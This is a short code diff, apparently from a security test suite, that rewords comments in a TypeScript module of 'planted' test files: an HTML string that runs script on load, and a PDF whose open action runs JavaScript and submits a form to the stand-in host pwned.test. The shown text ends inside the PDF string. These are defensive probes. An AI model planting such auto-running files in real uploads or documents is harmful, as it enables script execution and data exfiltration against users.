@@ -1,10 +1,10 @@
-/** A file that runs, loads or leads somewhere when it is opened as what it says it is, or as what it looks like. */
+/** A file that runs, loads or redirects when it is opened as the type it claims, or as the one it looks like. */
 export type PlantedFile = { readonly name: string; readonly type: string; readonly content: string }
 
 const html = '<!doctype html><body onload=pwned(§)><script>pwned(§)</script><img src=//pwned.test/§>'
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
 
-/** A PDF that runs a script when it is opened, and leads elsewhere. */
+/** A PDF that runs a script when opened, and redirects. */
 const pdf = `%PDF-1.4
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(§\\);pwned\\(§\\);this.submitForm\\("http://pwned.test/§"\\))>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
